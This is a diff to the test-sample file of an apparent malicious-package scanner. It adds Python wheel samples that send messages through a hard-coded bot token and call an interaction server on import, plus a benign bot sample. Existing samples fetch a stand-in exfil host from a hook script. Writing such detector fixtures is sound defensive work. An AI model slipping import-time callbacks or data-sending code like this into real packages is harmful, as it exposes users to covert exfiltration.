@@ -1,5 +1,5 @@
 import type { Samples } from '../contract.ts';
-import { hide, imported, installed, manifest, quiet } from '../samples-kit.ts';
+import { hide, imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
 
 function at(rule: string, severity: 'high' | 'medium', line: number, file = 'setup.js') {
   return { rule, file, line, severity };
@@ -9,6 +9,18 @@ const MAILBOX = `https://messenger.weir.test/bot1234567890:${'A'.repeat(35)}/sen
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: the key of a bot in code that talks through a library',
+      files: wheel(
+        'import telebot\nbot = telebot.TeleBot("1234567890:AbCdEfGhIjKlMnOpQrStUvWxYz012345678")\nbot.send_message(1, "hi")\n',
+      ),
+      expected: [{ rule: 'mailbox', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: an interaction server when the module is loaded',
+      files: wheel('import requests\nrequests.get("http://a.interaction.weir.test/")\n'),
+      expected: [{ rule: 'interaction', file: 'own/__init__.py', line: 2, severity: 'high' }],
+    },
     {
       name: 'a request catcher in a hook script',
       files: installed(`fetch('https://exfil.weir.test/abc');\n`),
@@ -45,6 +57,10 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a bot of the user',
+      wheel('import telebot\ndef start(token):\n    return telebot.TeleBot(token)\n'),
+    ),
     quiet(
       "a messenger's SDK",
       imported(
